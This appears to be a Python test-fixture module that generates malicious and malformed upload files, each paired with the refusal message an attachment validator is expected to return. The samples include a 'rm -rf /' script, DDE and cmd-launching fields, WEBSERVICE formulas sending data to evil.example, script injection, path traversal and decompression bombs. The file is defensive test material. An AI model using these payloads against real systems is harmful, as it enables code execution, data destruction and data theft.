"""Files that nobody should hand in, each with the sentence that refuses it; all are made by code."""

import io
import struct
import zipfile

from portal.domain import attachments as said
from tests.samples import media_files, office_files, pdf_files, picture_files
from tests.samples.make_samples import zipped

EXE = b"MZ\x90\x00\x03" + bytes(55) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(400)
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
_COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
_ARCHIVE = zipped({"evil.exe": EXE})
_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
_MACRO_TEMPLATE = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
_OLE = '<w:object><o:OLEObject r:id="rId9"/></w:object>'


def _bomb() -> bytes:
    return office_files.docx(**{"word__more.xml": b"<a>" + bytes(30 * 1024 * 1024) + b"</a>"})


def _doubled() -> bytes:
    """Two parts of one name: one program reads the first, another the second."""
    out = io.BytesIO(office_files.docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/Document.xml", "<other/>")
    return out.getvalue()


def _lying_entry() -> bytes:
    """The directory declares fewer bytes than the part unpacks to."""
    content = bytearray(office_files.docx(**{"word__more.xml": b"<a>" + b" " * 100_000 + b"</a>"}))
    at = content.rfind(b"word/more.xml") - 46
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


def _outside_template() -> str:
    return office_files.relations(
        office_files.relation(1, "frame", "https://evil-code.example/a.dotm", outside=True),
    )


REFUSED: dict[str, tuple[str, bytes, str]] = {
    "an empty file": ("a.jpg", b"", said.EMPTY),
    "a name without an extension": ("photo", picture_files.photo(), said.WRONG_TYPE),
    "a program under its own name": ("a.exe", EXE, said.WRONG_TYPE),
    "a program renamed to a photo": ("a.jpg", EXE, said.UNLIKE),
    "a program renamed to a text": ("a.txt", EXE, said.UNLIKE),
    "a program renamed to a document": ("a.docx", EXE, said.UNLIKE),
    "a program behind a null byte": ("a.jpg\0.exe", EXE, said.WRONG_TYPE),
    "a program behind a turn of writing": ("photo\u202egpj.exe", EXE, said.WRONG_TYPE),
    "a drawing that runs scripts": ("a.svg", SVG, said.WRONG_TYPE),
    "a drawing renamed to a picture": ("a.png", SVG, said.UNLIKE),
    "a drawing renamed to a text": ("a.txt", SVG, said.UNLIKE),
    "a web page": ("a.html", HTML, said.WRONG_TYPE),
    "a web page renamed to a text": ("a.txt", HTML, said.UNLIKE),
    "a shell script renamed to a text": ("a.txt", b"#!/bin/sh\nrm -rf /\n", said.UNLIKE),
    "a photo renamed to a drawing": ("a.png", picture_files.photo(), said.UNLIKE),
    "a photo renamed to a text": ("a.txt", picture_files.photo(), said.UNLIKE),
    "a table renamed to a document": ("a.docx", office_files.sheet(), said.UNLIKE),
    "a document renamed to a table": ("a.xlsx", office_files.docx(), said.UNLIKE),
    "an archive": ("a.zip", _ARCHIVE, said.WRONG_TYPE),
    "an archive renamed to a document": ("a.docx", _ARCHIVE, said.UNLIKE),
    "a photo with an archive behind it": ("a.jpg", picture_files.photo() + _ARCHIVE, said.DISGUISED),
    "a drawing with an archive behind it": ("a.png", picture_files.png_with_texts() + _ARCHIVE, said.DISGUISED),
    "a PDF with an archive behind it": ("a.pdf", pdf_files.pdf() + _ARCHIVE, said.DISGUISED),
    "a PDF with a program before it": ("a.pdf", EXE + pdf_files.pdf(), said.UNLIKE),
    "a recording with an archive behind it": ("a.mp3", media_files.mp3_frames() + _ARCHIVE, said.DISGUISED),
    "a text with an archive behind it": ("a.txt", "证据".encode() * 99 + _ARCHIVE, said.DISGUISED),
    "a photo that is a PDF as well": (
        "a.jpg",
        picture_files.saved(picture_files.painted(), "JPEG", comment=b"%PDF-1.7\n"),
        said.DISGUISED,
    ),
    "a photo that is a page as well": (
        "a.jpg",
        picture_files.saved(picture_files.painted(), "JPEG", comment=b"<script>alert(1)</script>"),
        said.DISGUISED,
    ),
    "a document of macros under its own name": ("a.docm", office_files.docx(main=_MACRO), said.WRONG_TYPE),
    "a template of macros renamed": ("a.docx", office_files.docx(main=_MACRO_TEMPLATE), said.UNLIKE),
    "a document with macros and an OLE object": (
        "a.docx",
        office_files.docx(_OLE, **{"word__vbaProject.bin": b"x"}),
        said.ACTIVE,
    ),
    "a document with macros and a program": (
        "a.docx",
        office_files.docx(**{"word__vbaProject.bin": b"x", "word__evil.exe": EXE}),
        said.EMBEDDED,
    ),
    "a document with macros that is none": ("a.docx", zipped({"word/vbaProject.bin": b"x"}), said.UNLIKE),
    "a document with macros that unpacks to nothing": (
        "a.docx",
        office_files.docx(**{"word__vbaProject.bin": bytes(30 * 1024 * 1024)}),
        said.BOMB,
    ),
    "a document with macros and a path out of it": (
        "a.docx",
        office_files.docx(**{"..__vbaProject.bin": b"x"}),
        said.TRICKS,
    ),
    "a table with macros that fetches": (
        "a.xlsx",
        office_files.sheet('=WEBSERVICE("https://evil.example/")', **{"xl__vbaProject.bin": b"x"}),
        said.ACTIVE,
    ),
    "an old document renamed": ("a.docx", _COMPOUND + "WordDocument".encode("utf-16le"), said.WRONG_TYPE),
    "an old macro document renamed": ("a.docx", _COMPOUND + "_VBA_PROJECT".encode("utf-16le"), said.MACROS),
    "an encrypted document": ("a.docx", _COMPOUND + "EncryptedPackage".encode("utf-16le"), said.ENCRYPTED),
    "an OLE object": ("a.docx", office_files.docx(_OLE), said.ACTIVE),
    "an OLE object's part": (
        "a.docx",
        office_files.docx(**{"word__embeddings__oleObject1.bin": _COMPOUND}),
        said.EMBEDDED,
    ),
    "an ActiveX control": ("a.docx", office_files.docx(**{"word__activeX__activeX1.xml": "<a/>"}), said.EMBEDDED),
    "a document in a document": (
        "a.docx",
        office_files.docx(**{"word__embeddings__a.docx": office_files.docx()}),
        said.EMBEDDED,
    ),
    "an archive in a document": ("a.docx", office_files.docx(**{"word__media__a.zip": _ARCHIVE}), said.EMBEDDED),
    "a program called a picture in a document": (
        "a.docx",
        office_files.docx(**{"word__media__a.jpeg": EXE}),
        said.DAMAGED,
    ),
    "a picture of a billion pixels in a document": (
        "a.docx",
        office_files.docx(**{"word__media__a.png": picture_files.huge_png()}),
        said.TOO_MANY_PIXELS,
    ),
    "a field that starts a program": (
        "a.docx",
        office_files.docx(office_files.field('DDEAUTO c:\\\\x.exe "a"')),
        said.ACTIVE,
    ),
    "a field that takes in a file": ("a.docx", office_files.docx(office_files.field("INCLUDETEXT c:/x")), said.ACTIVE),
    "a field spelt in numbers": ("a.docx", office_files.docx(office_files.field("QUOTE 68 68 69")), said.ACTIVE),
    "a formula that starts a program": ("a.xlsx", office_files.sheet("=cmd|'/c calc'!A0"), said.ACTIVE),
    "a formula that fetches": ("a.xlsx", office_files.sheet('=WEBSERVICE("https://evil.example/"&A1)'), said.ACTIVE),
    "a table that reads another": (
        "a.xlsx",
        office_files.sheet(**{"xl__externalLinks__externalLink1.xml": "<a/>"}),
        said.EXTERNAL,
    ),
    "a frame from elsewhere": (
        "a.docx",
        office_files.docx(**{"word___rels__settings.xml.rels": _outside_template()}),
        said.EXTERNAL,
    ),
    "a document that unpacks to nothing": ("a.docx", _bomb(), said.BOMB),
    "a document with a path out of it": ("a.docx", office_files.docx(**{"..__..__etc__cron.xml": "<a/>"}), said.TRICKS),
    "a document with a path of Windows": ("a.docx", office_files.docx(**{"..\\evil.xml": "<a/>"}), said.TRICKS),
    "a document with two texts": ("a.docx", _doubled(), said.TRICKS),
    "a document that lies about a part": ("a.docx", _lying_entry(), said.DAMAGED),
    "a document with entities": (
        "a.docx",
        office_files.docx(**{"word__a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        said.DAMAGED,
    ),
    "half a document": ("a.docx", office_files.docx()[:-300], said.DAMAGED),
    "an encrypted PDF": ("a.pdf", pdf_files.encrypted(), said.ENCRYPTED),
    "a PDF with an owner's password": ("a.pdf", pdf_files.encrypted(user=""), said.ENCRYPTED),
    "half a PDF": ("a.pdf", pdf_files.pdf()[:400], said.DAMAGED),
    "a PDF that reads another file": ("a.pdf", pdf_files.with_outside_stream(), said.ACTIVE),
    "a PDF whose page unpacks to nothing": ("a.pdf", pdf_files.with_bomb(), said.BOMB),
    "a PDF packed twice": ("a.pdf", pdf_files.with_packed_twice(), said.DAMAGED),
    "a PDF whose objects unpack to nothing": ("a.pdf", pdf_files.with_bomb_of_objects(), said.DAMAGED),
    "a form that only its reader paints": ("a.pdf", pdf_files.with_form(painted_by_reader=True), said.UNPAINTED),
    "a form that only its reader draws": ("a.pdf", pdf_files.with_form(drawn_by_reader=True), said.UNPAINTED),
    "a PDF without anything": ("a.pdf", b"%PDF-1.7\n%%EOF\n", said.DAMAGED),
    "a picture of a billion pixels": ("a.png", picture_files.huge_png(), said.TOO_MANY_PIXELS),
    "a picture just too large": ("a.png", picture_files.huge_png(9_000, 9_000), said.TOO_MANY_PIXELS),
    "a picture with a text like a bomb": ("a.png", picture_files.text_bomb_png(), said.DAMAGED),
    "half a photo": ("a.jpg", picture_files.photo()[:-200], said.DAMAGED),
    "half an iPhone's photo": ("a.heic", picture_files.heic()[:-100], said.DAMAGED),
    "half a film": ("a.mp4", media_files.film(b"vide", b"soun")[:-90], said.DAMAGED),
    "a film without tracks": ("a.mp4", media_files.film(), said.DAMAGED),
    "a film called a recording": ("a.m4a", media_files.film(b"vide", b"soun"), said.UNLIKE),
    "a recording of junk": ("a.mp3", media_files.id3(TIT2=b"\0a") + bytes(5000), said.DAMAGED),
    "a text of control characters": ("a.txt", b"a text " + bytes(range(1, 9)) * 3, said.NOT_TEXT),
    "a text of nothing": ("a.txt", b" \n \n", said.NOT_TEXT),
    "eleven megabytes": ("a.txt", b"a" * (11 * 1024 * 1024), said.TOO_LARGE),
    "a film of 51 megabytes": ("a.mp4", bytes(51 * 1024 * 1024), said.TOO_LARGE),
}

_BUTTON = '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="run"/>'
APART: dict[str, tuple[str, bytes]] = {
    "a document with macros": ("a.docx", office_files.docx(**{"word__vbaProject.bin": b"x"})),
    "a macro document renamed": ("a.docx", office_files.docx(main=_MACRO, **{"word__vbaProject.bin": b"x"})),
    "a macro document that lost its macros": ("a.docx", office_files.docx(main=_MACRO)),
    "a macro table renamed": ("a.xlsx", office_files.sheet(**{"xl__vbaProject.bin": b"x"})),
    "a table with a macro sheet": ("a.xlsx", office_files.sheet(**{"xl__macrosheets__sheet1.xml": "<a/>"})),
    "a table with a window that starts a macro": (
        "a.xlsx",
        office_files.sheet(**{"xl__dialogsheets__sheet1.xml": "<a/>"}),
    ),
    "a document with a button that starts a macro": (
        "a.docx",
        office_files.docx(**{"customUI__customUI.xml": _BUTTON}),
    ),
}
"""Files with macros that are good in every other way: kept as they came, in quarantine, and given to nobody."""
